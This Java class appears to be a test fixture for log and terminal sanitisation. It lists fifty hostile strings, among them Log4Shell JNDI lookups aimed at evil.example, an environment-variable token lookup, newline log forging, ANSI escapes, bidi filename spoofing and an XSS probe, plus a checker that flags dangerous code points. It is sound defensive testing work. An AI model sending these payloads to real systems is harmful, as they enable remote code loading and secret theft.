package io.github.camelhh1.text;

import java.util.List;

/** Fifty texts that would do something to a log, a terminal or its reader. */
public final class LogPayloads {
    public static final List<String> ALL = List.of(
            "a\nb",
            "a\rb",
            "a\r\nb",
            "a\r\n\r\nHTTP/1.1 200 OK",
            "ok\n2026-11-22 12:00:00 INFO paid 0",
            "\u001b[2J\u001b[1;1H",
            "\u001b[31mred",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
            "\u009b31m",
            "\u0000",
            "nul\u0000middle",
            "\b\b\b\bgone",
            "\u007f\u007f",
            "tab\tinside",
            "form\ffeed",
            "vertical\u000btab",
            "next\u0085line",
            "line\u2028separator",
            "paragraph\u2029separator",
            "\u202egnp.exe",
            "\u202dleft",
            "\u2066isolate\u2069",
            "\u200bzero\u200bwidth",
            "\u200e\u200f",
            "\ufeffbom",
            "soft\u00adhyphen",
            "\ue000private",
            "\uffffnone",
            "\ud800",
            "\udc00lonely",
            "\ud800\ud800",
            "a\ud83dz",
            "\udb40\udc01tag",
            "\udbff\udffflast",
            "${jndi:ldap://evil.example/a}",
            "${jndi:${lower:l}dap://evil.example}\n",
            "${env:CLOUDFLARE_API_TOKEN}\r",
            "#{systemProperties}\u0001",
            "%n%n%s",
            "{}\u0002{}",
            "<script>alert(1)</script>\u0003",
            "\u0004\u0005\u0006",
            "\u000e\u000f shift",
            "\u0090dcs\u009c",
            "\u001a",
            "\u001c\u001d\u001e\u001f",
            "\u180e",
            "\ufff9anchor\ufffb",
            "\r".repeat(600) + "\n".repeat(600));

    private LogPayloads() {}

    /** Whether a terminal and a log show it as the one line it is. */
    public static boolean harmless(String text) {
        return text.codePoints().noneMatch(LogPayloads::harmful);
    }

    private static boolean harmful(int c) {
        return switch (Character.getType(c)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.PRIVATE_USE,
                    Character.UNASSIGNED,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR -> true;
            default -> false;
        };
    }
}
